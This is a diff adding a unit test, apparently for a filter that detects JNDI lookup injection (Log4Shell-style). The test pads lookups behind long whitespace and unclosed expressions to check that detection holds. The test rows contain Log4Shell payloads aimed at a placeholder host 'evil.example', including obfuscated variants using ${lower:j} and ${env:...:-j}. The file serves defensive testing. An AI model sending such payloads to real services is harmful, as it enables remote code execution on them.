@@ -48,6 +48,45 @@ static void blocks_lookups_however_they_are_spelled(void **state)
     filter_case_blocks(&it, "jndi", rows, PEN_COUNT_OF(rows));
 }
 
+static void finds_lookups_behind_whatever_is_long(void **state)
+{
+    (void)state;
+    static char text[1 << 18];
+    static const struct {
+        const char *why;
+        struct pen_str piece;
+        size_t times;
+        struct pen_str blanks; /* behind each */
+        size_t width;
+        struct pen_str lookup;
+    } rows[] = {
+        {"blanks", PEN_STR(""), 1, PEN_STR(" "), 100000, PEN_STR("${jndi:ldap://evil.example/a}")},
+        {"line breaks", PEN_STR(""), 1, PEN_STR("\n"), 70000,
+         PEN_STR("${${lower:j}ndi:ldap://evil.example/a}")},
+        {"one that does not end, and blanks", PEN_STR("${"), 1, PEN_STR(" "), 5000,
+         PEN_STR("${jndi:ldap://evil.example/a}")},
+        {"many that do not end", PEN_STR("${"), 40, PEN_STR(" "), 5000,
+         PEN_STR("${jndi:ldap://evil.example/a}")},
+        {"many at once", PEN_STR("${"), 40, PEN_STR(""), 0,
+         PEN_STR("${jndi:ldap://evil.example/a}")},
+        {"a long variable", PEN_STR("${${env:"), 1, PEN_STR("A"), 2000,
+         PEN_STR(":-j}ndi:ldap://evil.example/a}")},
+    };
+    for (size_t i = 0; i < PEN_COUNT_OF(rows); i++) {
+        struct pen_buf buf = pen_buf_over(text, sizeof(text));
+        for (size_t n = 0; n < rows[i].times; n++) {
+            pen_buf_put(&buf, rows[i].piece);
+            for (size_t k = 0; k < rows[i].width; k++) {
+                pen_buf_put(&buf, rows[i].blanks);
+            }
+        }
+        pen_buf_put(&buf, rows[i].lookup);
+        assert_false(buf.full);
+        const struct filter_row row = {rows[i].why, pen_buf_str(&buf)};
+        filter_case_blocks(&it, "jndi", &row, 1);
+    }
+}
+
 static void stays_silent_on_placeholders(void **state)
 {
     (void)state;
@@ -97,6 +136,7 @@ int main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(blocks_lookups_however_they_are_spelled),
+        cmocka_unit_test(finds_lookups_behind_whatever_is_long),
         cmocka_unit_test(stays_silent_on_placeholders),
         cmocka_unit_test(is_linear_where_it_could_be_quadratic),
     };
